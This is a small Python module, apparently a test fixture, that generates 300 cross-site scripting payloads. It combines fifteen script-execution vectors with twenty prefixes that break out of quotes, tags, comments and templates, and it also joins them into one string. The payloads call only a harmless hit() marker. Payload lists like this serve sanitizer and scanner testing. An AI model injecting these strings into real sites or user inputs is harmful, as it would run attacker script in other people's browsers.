"""Three hundred pieces of text that would run something, in a page that takes text for markup."""

from itertools import product

_RUNS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<body onpageshow=hit()>",
    "<video><source onerror=hit()></video>",
    "<marquee onstart=hit()>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=hit()>x</b>",
    "<a href=javascript:hit() autofocus>x</a>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
)
_OPENED_BY = (
    *(
        "",
        '"',
        "'",
        '">',
        "'>",
        "-->",
        "]]>",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</option>",
    ),
    *("</select>", "</pre>", "{{", "{%", "`${", "\\", "&#34;&gt;", "\u2028"),
)
PAYLOADS = tuple(opened + runs for opened, runs in product(_OPENED_BY, _RUNS))
ALL = " ".join(PAYLOADS)
"""All of them in one field: each stands where those before it have closed whatever can be closed."""
